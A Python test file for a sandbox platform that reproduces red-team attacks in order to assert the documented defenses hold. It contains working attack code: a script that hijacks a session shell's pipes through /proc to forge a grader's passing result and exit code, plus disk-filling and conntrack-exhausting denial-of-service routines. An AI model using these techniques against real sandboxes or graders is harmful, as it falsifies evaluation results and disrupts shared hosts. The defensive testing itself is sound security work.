#!/usr/bin/env python3
"""
Red-team findings that still succeed on main (docs/security.md claims otherwise). Not in
security_suites: every test here fails today. Each performs its attack the way an attacker would
and asserts what the docs promise.
"""
import json
import os
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from sec import AttackCase, main  # noqa: E402
from test_disk import MIB, SPEC, STATE_MIB, SmallStateCase, free_bytes  # noqa: E402

# Runs in the background as the workload (root of the sandbox): waits for a bash session's shell,
# stops it, reads the scripts execd writes to its stdin (through /proc/<pid>/fd/0, a pipe), takes the run's
# end marker from them and writes a forged result with exit code 0 into the shell's stdout pipe.
FORGER_PY = r'''
import os, re, signal, time
def shell():
    for p in os.listdir("/proc"):
        if p.isdigit():
            try:
                if open("/proc/%s/cmdline" % p, "rb").read() == b"/bin/bash\0--noprofile\0--norc\0":
                    return p
            except OSError:
                pass
while True:
    pid = shell()
    if pid:
        break
    time.sleep(0.05)
os.kill(int(pid), signal.SIGSTOP)  # the shell reads nothing until we are done
stdin = os.open("/proc/%s/fd/0" % pid, os.O_RDONLY)
stdout = os.open("/proc/%s/fd/1" % pid, os.O_WRONLY)
open("/tmp/forger-ready", "w").close()
data = b""
while True:
    data += os.read(stdin, 65536)
    m = re.search(rb"corral-([0-9a-f]{24})", data)
    if m:
        os.write(stdout, b"42 passed\n\x1ecorral-" + m.group(1) + b" 0\n")
        break
os.kill(int(pid), signal.SIGKILL)
'''


def events_of(body):
    out = []
    for chunk in body.decode(errors="replace").split("\n\n"):
        chunk = chunk.strip()
        if chunk.startswith("{"):
            out.append(json.loads(chunk))
    return out


class SessionForgeryTest(AttackCase):

    def test_session_exit_code_cannot_be_forged(self):
        # Attack: the workload reads a session's script from the shell's stdin and forges "42 passed", exit 0.
        sid = self.create(entrypoint=["sleep", "infinity"])["id"]
        self.run_ok(sid, "cat > /tmp/forger.py <<'EOF'\n%sEOF" % FORGER_PY)
        bg = self.client.run(sid, "exec python3 /tmp/forger.py", background=True)
        self.addCleanup(self.client.interrupt, sid, bg.init_id)
        r = self.client.post(self.client.execd_path(sid, "/session"), body={})
        self.assertEqual(r.status, 200, r)
        session = r.json()["session_id"]
        self.wait_until(lambda: self.client.run(sid, "test -e /tmp/forger-ready").exit_code == 0, 10,
                        interval=0.1, msg="the workload to find the session's shell")
        # The grader: its tests fail.
        r = self.client.post(self.client.execd_path(sid, "/session/%s/run" % session),
                             body={"command": "echo 0 passed, 3 failed; exit 1", "timeout": 20000})
        self.assertEqual(r.status, 200, r)
        ev = events_of(r.body)
        out = [e.get("text") for e in ev if e.get("type") == "stdout"]
        errors = [e for e in ev if e.get("type") == "error"]
        self.assertNotIn("42 passed", out, "the workload forged the grader's output: %r" % ev)
        self.assertTrue(errors and errors[-1]["error"]["evalue"] == "1",
                        "the grader's exit code 1 was not reported: %r" % ev)
        self.assert_platform_alive(sid)


class DiskOvercommitTest(SmallStateCase):
    """corrald on a 192 MiB state file system of its own, every sandbox with a 64Mi default disk,
    disks overcommitted (the default; --capacity disk= bounds their sum: test_disk.DiskCapacity)."""

    def test_sandboxes_within_their_limits_cannot_fill_the_state_fs(self):
        # Attack: five sandboxes, each writing 50 MiB (within its 64Mi disk), fill the host's state fs.
        sids = [self.create(**SPEC)["id"] for _ in range(5)]
        outs = []
        for sid in sids:
            outs.append(self.client.run(sid, "dd if=/dev/urandom of=/var/tmp/fill bs=1M count=50 "
                                        "conv=fsync status=none 2>&1; echo rc=$?", read_timeout=120)
                        .stdout)
        free = free_bytes(self.corrald.state_dir)
        self.assert_platform_alive(*sids)
        self.assertGreater(free, 8 * MIB, "sandboxes within their limits left %.1f MiB of the "
                           "%d MiB state fs: %r" % (free / MIB, STATE_MIB, outs))
        for sid, out in zip(sids, outs):
            self.assertIn("rc=0", out, "a write within the sandbox's own limit failed: %r" % outs)


import test_redteam_network as rn  # noqa: E402  (a module, so its tests are not run here)

# --- sandbox networking (wt-redteam3) -----------------------------------------------------------

# Talks to DST:DPORT from N source ports starting at FIRST, each from its own socket, twice, 2.5 s
# apart (the same conversations again: "assured" conntrack entries); prints the echoes per pass.
UDP_FLOWS = r"""
import socket, sys, time
dst, dport, first, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
for rnd in range(2):
    got, socks = 0, []
    for p in list(range(first, first + n)) + [None]:
        if p is not None:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            try:
                s.bind(("0.0.0.0", p))
                s.sendto(b"flow", (dst, dport))
                socks.append(s)
            except OSError:
                s.close()
        if len(socks) >= 200 or (p is None and socks):
            for t in socks:
                t.settimeout(2)
                try:
                    t.recv(64)
                    got += 1
                except OSError:
                    pass
                t.close()
            socks = []
    print(got, flush=True)
    if rnd == 0:
        time.sleep(2.5)
"""


class ConntrackQuotaTest(rn.NetLabCase):
    """Finding: nothing bounds the host's conntrack entries a sandbox holds through the
    destinations its policy admits. Each UDP conversation that goes on for 2 s (or TCP
    connection kept open) is an "assured" entry the kernel never evicts early; one sandbox
    allowed one UDP peer that answers holds one per source port (64,000), and a few such
    sandboxes fill the host's table (net.netfilter.nf_conntrack_max, 262,144 on the test
    machine): the host then drops every new flow, its own (corrald's API on loopback included)
    and every sandbox's. (Through corral's resolver a sandbox holds none since wt-redteam3: its
    conversations are not tracked.) A fix: a per-sandbox quota in out_sb, e.g. `ct state new add
    @flows { ip saddr ct count over 4096 } goto drop_sb` (nf_conncount counts open flows, not
    closed TCP, which the kernel's gc evicts early anyway), and its number in the docs. This test
    stays far below the host's limit (5000 entries)."""

    def test_one_sandbox_holds_a_bounded_share_of_the_conntrack_table(self):
        # attack: a sandbox allowed everything talks to a UDP echo server in the lab from 5000
        # source ports, twice 2.5 s apart: 5000 assured conntrack entries of the host's
        lit = self.lab.addr["literal"]
        self.lab.listen_udp(lit, 7000)
        sid = self.sandbox({"defaultAction": "allow", "egress": []})
        ip = self.address(sid)
        out = self.sh(sid, "/usr/bin/python3 -c %s %s 7000 30000 5000" % (rn.q(UDP_FLOWS), lit),
                      read_timeout=120)
        held = 0
        with open("/proc/net/nf_conntrack") as f:
            for ln in f:
                if " src=%s " % ip in ln and "[ASSURED]" in ln:
                    held += 1
        self.assertGreater(min(int(x) for x in out.split()), 4000, out)
        self.assertLessEqual(held, 4096, "one sandbox holds %d assured conntrack entries" % held)
        self.assert_platform_alive(sid)


if __name__ == "__main__":
    main()
